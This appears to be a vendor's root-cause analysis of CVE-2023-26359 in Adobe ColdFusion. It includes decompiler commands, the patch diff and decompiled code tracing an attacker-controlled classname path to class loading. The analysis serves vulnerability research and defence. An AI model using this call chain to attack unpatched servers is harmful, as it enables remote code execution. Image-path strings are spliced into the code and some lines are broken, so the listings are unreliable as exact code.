Activity Feed

Technical Analysis


Adobe ColdFusion is a rapid web application development platform. On March 14, 2023, Adobe published an advisory outlining three vulnerabilities that affect ColdFusion 2021 Update 5 and earlier as well as ColdFusion 2018 Update 15 and earlier. One of the vulnerabilities addressed in this advisory is CVE-2023-26359, a deserialization of untrusted data vulnerability that may lead to arbitrary code execution. This vulnerability has been given a CVSS base score of 9.8 and has a severity rating of Critical.

The vulnerability allows an attacker to specify an arbitrary file path to a java class or source file, when deserializing the metadata for a TemplateProxy object in the JSONUtils.deserializeJSON method during a _cfclient request. An attacker who can plant a malicious Java class or source file in a predictable location under any filename or extension, can leverage this vulnerability to achieve arbitrary code execution.

This analysis was performed on Adobe ColdFusion 2021 Update 5 (2021.0.05.330109), running on Windows Server 2022.

Root Cause Analysis

We analyze the patch for this vulnerability by downloading a patched version of ColdFusion 2021, update 6 and a vulnerable version of ColdFusion 2021, update 5. We can decompile both versions using the Java decompiler CFR.

> java -jar cfr-0.152.jar --outputpath c:\decomp_coldfusion_u5 C:\cf2021u5\opt\coldfusion\cfusion\lib\cfusion.jar

> java -jar cfr-0.152.jar --outputpath c:\decomp_coldfusion_u5 --clobber true C:\\cf2021u5\opt\coldfusion\cfusion\lib\updates\chf20210005.jar> java -jar cfr-0.152.jar --outputpath c:\decomp_coldfusion_u6 C:\\cf2021_u6\opt\coldfusion\cfusion\lib\cfusion.jar

> java -jar cfr-0.152.jar --outputpath c:\decomp_coldfusion_u6 --clobber trueC:\\cf2021_u6\opt\coldfusion\cfusion\lib\updates\chf20210006.jar

Inspecting these folders for changes we identify the file as being of interest, and running a git diff command against the two version of this file will reveal the addition of a variable allowNonCFCDeserialization which prevents a TemplateProxy instance being created during a call to coldfusion.runtime.JSONUtils.convertToTemplateProxy. In addition the patch also enforces a TemplateProxy to originate from a file name with a .cfc extension.

diff --git "a/c:\\decomp_coldfusion_u5\\coldfusion\\runtime\\" "b/c:\\decomp_coldfusion_u6\\coldfusion\\runtime\\"
index 7bca87f..293fb20 100644
--- "a/c:\\decomp_coldfusion_u5\\coldfusion\\runtime\\"
+++ "b/c:\\decomp_coldfusion_u6\\coldfusion\\runtime\\"
@@ -96,6 +96,7 @@ public class JSONUtils {
     public static final String JS_DATE_FORMAT = "MMMMM, dd yyyy HH:mm:ss";
     private static final Logger logger = CFLogs.SERVER_LOG;
     private static Map<Integer, String> SPECIAL_CHAR_MAP;
+    private static boolean allowNonCFCDeserialization;
     private static final boolean numberAsDouble;
     private static booleanreturnCaseSensitiveStruct;
     private staticfinal String CASESENSITIVESTRUCT = "CaseSensitiveStruct";
@@ -1507,6 +1508,9 @@ public class JSONUtils {
                     serverClass = serverClass.substring(contextPath.length());
                 File pageFile = new File(context.getRealPath(serverClass, true));
+                if (!(!context.isCFClientCall() || allowNonCFCDeserialization || pageFile.exists() && pageFile.getAbsolutePath().endsWith(".cfc"))) {
+                    return null;
+                }
                 TemplateProxy tp = TemplateProxyFactory.resolveFile((NeoPageContext)context.pageContext, (File)pageFile);
                 Object varObj = s.get("_variables");
                 Map map = vars = varObj instanceof Array ? null : (Map)varObj;
@@ -1678,6 +1682,7 @@ public class JSONUtils {static {
+        allowNonCFCDeserialization = Boolean.getBoolean("coldfusion.cfclient.allowNonCfc");
         numberAsDouble = Boolean.getBoolean("json.numberasdouble");
         returnCaseSensitiveStruct = false;
         SPECIAL_CHAR_MAP = new HashMap<Integer, String>();

First we must understand why a call to coldfusion.runtime.TemplateProxyFactory.resolveFile may be unsafe and why the addition of a variable allowNonCFCDeserialization and a check pageFile.getAbsolutePath().endsWith(".cfc") was added to prevent exploitation. Then we will identify how an attacker can call this method with attacker controlled data to trigger the issue.

If we inspect convertToTemplateProxy we can see the parameter s is a key value Map structure. Thisparameter, we will learn, is attacker controlled. If the map contains a value with the key _metadata, this metadata value, itself a Map, will be queried for a value with a key of classname. This classname string will be converted into a file path via a call to coldfusion.filter.FusionContext.getRealPath. Finally this file path will be passed to coldfusion.runtime.TemplateProxyFactory.resolveFile. No attempt to sanitize the pageFile path is performed, allowing a malicious path to an arbitrary file to be specified by an attacker, including the use of the double dot path specifier to navigate beneath the C:\ColdFusion2021\cfusion\wwwroot\ if desired.

    private static Map convertToTemplateProxy(Map s) {
        Map ret = s;
        try {
            Object metadata = s.get("_metadata");
            FusionContext context = FusionContext.getCurrent();
            if (metadata != null) {
                Map vars;
                String serverClass =(String)((Map)metadata).get("classname");
                String contextPath = context.getRequest().getContextPath();
                if (!serverClass.startsWith("/")) {
                    serverClass = serverClass.substring(serverClass.indexOf("//") + 2);
                    serverClass = serverClass.substring(serverClass.indexOf("/") + 1);
                if (contextPath != null && !"".equals(contextPath) && serverClass.startsWith(contextPath)) {
                    serverClass = serverClass.substring(contextPath.length());
                File pageFile = newFile(context.getRealPath(serverClass, true));
                TemplateProxy tp = TemplateProxyFactory.resolveFile(context.pageContext, pageFile); // <----
                Object varObj = s.get("_variables");
                Map map = vars = varObj instanceof Array ? null : (Map)varObj;
                if (vars != null) {
                returntp;
        catch (Throwable throwable) {
            // empty catch block
        return ret;

A call to resolveFile wraps a call to resolveName as shown below. The parameter canonicalResolvedFile is a File instance with an attacker controlled path. This path is passed to coldfusion.runtime.TemplateProxyFactory.getCFCInstance.

    static TemplateProxy resolveName(TemplateProxy proxyInstance, NeoPageContext pageContext, File canonicalResolvedFile, String fullName, boolean origCFC, Map initalThisVars, HashSet derivedClasses, boolean initializeCFC) throws Throwable {
        CfJspPage page;
        AttributeCollection metadata;
        ServletContext servletContext = pageContext.getServletContext();
        if (fullName != null) {fullName = fullName.replace('/', '.');
            if ((fullName = fullName.replace('\\', '.')).startsWith(".")) {
                fullName = fullName.substring(fullName.indexOf(".") + 1);
        if ((metadata = (AttributeCollection)(page = TemplateProxyFactory.getCFCInstance(servletContext, canonicalResolvedFile, fullName)).getMetadata()).get(Key.PATH) == null && (String)metadata.get(Key.NAME) == "application") { // <----metadata.put(Key.NEWLY_COMPILED, (Object)"true");

In getCFCInstance we can see the attacker controlled path is passed to TemplateClassLoader.newInstance.

    private static CfJspPage getCFCInstance(ServletContext servletContext, File canonicalFile, String fullName) throws Exception {
        CfJspPage page;
        if (System.getSecurityManager() != null) {
            page = (CfJspPage)AccessController.doPrivileged(new TemplateClassLoaderPrivilege(servletContext, canonicalFile, null));
            if (fullName != null && !fullName.equals(BASE_COMPONENT_NAME)) {
                if (VFSFileFactory.checkIfVFile(canonicalFile.getPath())) {
                    AccessController.checkPermission(new VFilePermission(canonicalFile.getPath(), "read"));
                } else {
                    AccessController.checkPermission(new FilePermission(canonicalFile.getPath(), "read"));
        } else {page = TemplateClassLoader.newInstance(servletContext, canonicalFile.getPath(), null); // <----
        return page;

And in newInstance we can see the attacker controlled path is passed to coldfusion.runtime.TemplateClassLoader.findClass which will return a Class instance that represent the loaded class in the Java Virtual Machine (JVM). We can then see an instance of this class is constructed via a call to c.getDeclaredConstructor(new Class[0]).newInstance.

   public static CfJspPage newInstance(ServletContext application, String realPath, VariableScope vs) throws Exception {
        return TemplateClassLoader.newInstance(application, realPath, vs, null); // <----

    public static CfJspPage newInstance(ServletContext application, String realPath, VariableScope vs, LocalScope ls) throws Exception {
        Class c = TemplateClassLoader.findClass(application, realPath); // <----
        if (c == null) {
            String upperFilePath = realPath.toUpperCase();
            if (upperFilePath.endsWith(".CFC")) {
                throw newCfJspPage.NoSuchTemplateException(realPath);
            throw new TemplateNotFoundException(realPath);
        Object obj = c.getDeclaredConstructor(new Class[0]).newInstance(new Object[0]); // <----

The method findClass will try to pull out a Class instance from a cache called classCache using the file path as the key.

    public static Class findClass(ServletContext application, String realPath) throws IOException {
        long lastModTime;
        long compiledTime;
        if (translator == null) {
            Class<TemplateClassLoader> clazz = TemplateClassLoader.class;
            // MONITORENTER : coldfusion.runtime.TemplateClassLoader.class
            if (translator == null) {
                translator = new NeoTranslator(application);
                runtimeService = ServiceFactory.getRuntimeService();
                classDir = new File(TemplateClassLoader.translator.outputDir);
            // MONITOREXIT : clazz
        if (runtimeService.isCommandLineCompile() && (compiledTime = TemplateClassLoader.getLastCompiledTime(realPath)) != (lastModTime = TemplateClassLoader.getLastModifiedTime(realPath))) {
        Class c = (Class)classCache.get(realPath); // <----

The cache is of type coldfusion.runtime.TemplateClassLoader.TemplateCache which inherits from coldfusion.util.SoftCache. We can see below that if a call to get returns a null reference, occurring when a file path is loaded for the first time, then a call to fetch is performed.// coldfusion.util.SoftCache
    public Object get(Object key) {
        if (this.stats == Stats.FALSE || this.stats == Stats.RUNTIME && !statsEnabled) {
            return this.get_statsOff(key); // <----
        return this.get_statsOn(key);

    private Object get_statsOff(Object key) {
        Object value;
        ValueRef ref =;
        if (ref != null && (value = ref.get()) != null) {
            return value instanceof Null ? null : value;
        value = this.fetch(key); // <----

fetch as implemented in TemplateCache will use the ColdFusion compiler NeoTranslator to translate the files contents into a Java classvia a call to coldfusion.compiler.NeoTranslator.translateJava.private static class TemplateCache
    extends SoftCache {
        private static TemplateChecker tc = null;
        final LruCache secondary = new LruCache(){

            protected Object fetch(Object file) {
                try{
                    Class<?> c;
                    Map classBytes;
                    File canonicalFile = (File)file;
                    if (tc != null && !tc.check(canonicalFile)) {
                        return null;
                    String className = NeoTranslator.getClassName(canonicalFile);
                    byte[] bytes = null;
                    if (saveClassFiles && translator.isNewPage(canonicalFile.getPath())) {
                        long sourceModTime = -1L;
                        try {
                            if (System.getSecurityManager() == null) {
                                bytes = TemplateClassLoader.getClassBytes(className);
                            } else {
                                try {
                                    final String tempClassName = className;
                                    bytes = (byte[])AccessController.doPrivileged(new PrivilegedExceptionAction(){

                                        public Object run() throws Exception {
                                            return TemplateClassLoader.getClassBytes(tempClassName);
                                catch (PrivilegedActionException e){
                                    throw new IOException(e.getLocalizedMessage());
                            sourceModTime = new ClassReader(bytes).getSourceModTime();
                        catch (IOException e) {
                            // empty catch block
                        if (sourceModTime != -1L) {
                            translator.setSourceLastModified(canonicalFile.getPath(), sourceModTime);
                        classBytes = translator.translateJava(canonicalFile.getPath(), false); // <----
                    } else {
                        classBytes = translator.translateJava(canonicalFile.getPath(), true);

